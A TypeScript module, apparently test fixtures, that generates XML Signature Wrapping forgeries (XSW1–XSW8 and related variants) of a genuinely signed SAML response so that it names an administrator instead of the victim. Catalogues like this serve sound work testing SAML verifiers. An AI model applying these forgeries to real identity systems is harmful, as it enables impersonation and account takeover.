/**
 * Forged responses of an attacker who has a response that the identity provider signed for them. `evil` is the NameID
 * that they want to have. The forms XSW1 to XSW8 are those of Somorovsky et al., "On Breaking SAML" (USENIX Security
 * 2012).
 */
interface Parts {
  readonly xml: string;
  /** The signature and the signed element with it, and without it. */
  readonly signature: string;
  readonly assertion: string;
  readonly assertionAlone: string;
}

const VICTIM = 'alice@example.org';
export const EVIL = 'admin@example.org';

export function partsOf(xml: string): Parts {
  const signature = /<ds:Signature[\s\S]+?<\/ds:Signature>/.exec(xml)?.[0] ?? '';
  const assertion = /<saml:Assertion [\s\S]+<\/saml:Assertion>/.exec(xml)?.[0] ?? '';
  if (signature === '' || assertion === '') throw new Error('the response is not signed');
  return { xml, signature, assertion, assertionAlone: assertion.replace(signature, '') };
}

function evilOf(assertion: string): string {
  return assertion.replace(VICTIM, EVIL).replace(/<saml:Assertion ([^>]*?)ID="[^"]*"/, '<saml:Assertion $1ID="_evil"');
}

/** The response with `inner` in place of its assertion. */
function around({ xml, assertion }: Parts, inner: string): string {
  return xml.replace(assertion, () => inner);
}

function into(element: string, inner: string): string {
  return element.replace(/<\/[\w:]+>$/, (end) => inner + end);
}

/** Wrapping of a signed response. */
export const RESPONSE_WRAPPING: Readonly<Record<string, (parts: Parts) => string>> = {
  'XSW1: the signed response within the signature of a forged one': (parts) => {
    const alone = parts.xml.replace(parts.signature, '');
    return forgedResponse(alone, into(parts.signature, alone));
  },
  'XSW2: the signed response before the signature of a forged one': (parts) => {
    const alone = parts.xml.replace(parts.signature, '');
    return forgedResponse(alone, alone + parts.signature);
  },
};

function forgedResponse(alone: string, inserted: string): string {
  return alone
    .replace(VICTIM, EVIL)
    .replace(/(<samlp:Response [^>]*?)ID="[^"]*"/, '$1ID="_evil-response"')
    .replace(/<saml:Assertion ID="[^"]*"/, '<saml:Assertion ID="_evil"')
    .replace(/<\/saml:Issuer>/, (end) => end + inserted);
}

/** Wrapping of a signed assertion. */
export const ASSERTION_WRAPPING: Readonly<Record<string, (parts: Parts) => string>> = {
  'XSW3: a forged assertion before the signed one': (parts) =>
    around(parts, evilOf(parts.assertionAlone) + parts.assertion),
  'XSW4: the signed assertion within a forged one': (parts) =>
    around(parts, into(evilOf(parts.assertionAlone), parts.assertion)),
  'XSW5: the signature in a forged assertion, the signed one after it': (parts) =>
    around(parts, into(evilOf(parts.assertionAlone), parts.signature) + parts.assertionAlone),
  'XSW6: the signed assertion within the signature of a forged one': (parts) =>
    around(parts, into(evilOf(parts.assertionAlone), into(parts.signature, parts.assertionAlone))),
  'XSW7: a forged assertion in the extensions': (parts) =>
    around(parts, `<samlp:Extensions>${evilOf(parts.assertionAlone)}</samlp:Extensions>${parts.assertion}`),
  'XSW8: the signed assertion in an object of the signature of a forged one': (parts) =>
    around(
      parts,
      into(evilOf(parts.assertionAlone), into(parts.signature, `<ds:Object>${parts.assertionAlone}</ds:Object>`)),
    ),
  'a forged assertion with the id of the signed one': (parts) =>
    around(parts, parts.assertionAlone.replace(VICTIM, EVIL) + parts.assertion),
  'a forged assertion in no namespace': (parts) =>
    around(parts, `<Assertion ID="_evil"><NameID>${EVIL}</NameID></Assertion>${parts.assertion}`),
  'the signature moved to the response': ({ xml, signature, assertionAlone, assertion }) =>
    xml.replace(assertion, () => assertionAlone).replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`),
  'two references in the signature': (parts) =>
    parts.xml.replace(/<ds:Reference[\s\S]+?<\/ds:Reference>/, (reference) => reference + reference),
  'a reference to the whole document': (parts) =>
    parts.xml.replace(/<ds:Reference URI="#[^"]*"/, '<ds:Reference URI=""'),
  'two signatures of one assertion': (parts) =>
    parts.xml.replace(parts.signature, () => parts.signature + parts.signature),
};
